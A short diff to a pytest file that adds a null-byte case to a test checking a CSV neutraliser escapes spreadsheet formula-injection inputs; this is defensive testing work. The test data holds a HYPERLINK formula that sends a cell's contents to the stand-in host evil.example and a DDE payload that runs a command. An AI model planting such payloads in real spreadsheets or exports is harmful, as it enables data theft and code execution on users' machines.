@@ -14,7 +14,7 @@ from workshop import csv_safe
 HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
 
 
-@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
+@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "\0=1+1",
                                   "=cmd|' /C calc'!A0"])
 def test_a_cell_that_a_spreadsheet_would_evaluate_is_prefixed(text):
     assert csv_safe.neutralise(text) == "'" + text
